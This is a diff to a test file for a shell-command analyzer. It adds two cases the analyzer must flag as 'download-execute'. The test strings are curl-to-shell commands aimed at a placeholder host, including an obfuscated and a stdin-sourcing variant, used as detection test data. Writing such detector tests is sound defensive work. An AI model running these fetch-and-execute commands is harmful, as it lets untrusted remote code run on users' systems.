@@ -17,6 +17,8 @@ describe("analyzeShell", () => {
       "c''url -s https://e.invalid | sh",
       "curl -o i.sh https://e.invalid/i.sh\necho ok\nbash ./i.sh",
       "curl -s https://e.invalid | python3 -",
+      "curl -sSL https://e.invalid | bash /dev/stdin",
+      'source /dev/stdin <<< "$(curl -s https://e.invalid)"',
     ])
       expect(rules(text), text).toEqual(["download-execute"]);
   });
